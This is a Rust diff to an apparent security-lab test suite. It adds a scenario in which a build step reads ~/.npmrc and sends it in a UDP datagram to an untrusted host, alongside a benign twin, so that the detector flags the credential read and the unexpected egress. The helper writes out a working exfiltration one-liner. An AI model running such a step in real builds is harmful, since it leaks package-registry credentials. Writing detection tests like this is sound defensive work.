@@ -202,7 +202,29 @@ pub fn all() -> Vec<Scenario> {
                 &[("package", &format!("cd \"$LAB/pack-clean\"\n{NPM} pack --pack-destination \"$OUT\" >/dev/null\n"))],
             ),
         },
+        Scenario {
+            name: "exfiltration-without-connect",
+            threat: "exfiltration that never calls connect(2): a UDP datagram sent with sendto (also io_uring, 32-bit syscalls, TCP Fast Open)",
+            needs: &["python3"],
+            expect: &["credential-read .npmrc", "unexpected-egress datagram"],
+            attack: job(
+                "a step sends ~/.npmrc to the untrusted host in one UDP datagram",
+                &[("build", &udp_send("UNTRUSTED", "open(os.path.expanduser('~/.npmrc'), 'rb').read()[:512]"))],
+            ),
+            twin: job(
+                "a step sends a UDP datagram to the allowed registry host",
+                &[("build", &udp_send("REGISTRY", "b'ping'"))],
+            ),
+        },
     ]
+}
+
+/// A step that sends `payload` (a Python expression) in one datagram to the host and port of
+/// the URL in variable `url_var`, with `sendto` on an unconnected socket.
+fn udp_send(url_var: &str, payload: &str) -> String {
+    format!(
+        "python3 -c \"import os, socket, urllib.parse\np = urllib.parse.urlparse(os.environ['{url_var}'])\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto({payload}, (p.hostname, p.port))\"\n"
+    )
 }
 
 /// The profile the lab's jobs are judged by: the registry and the token endpoint are allowed
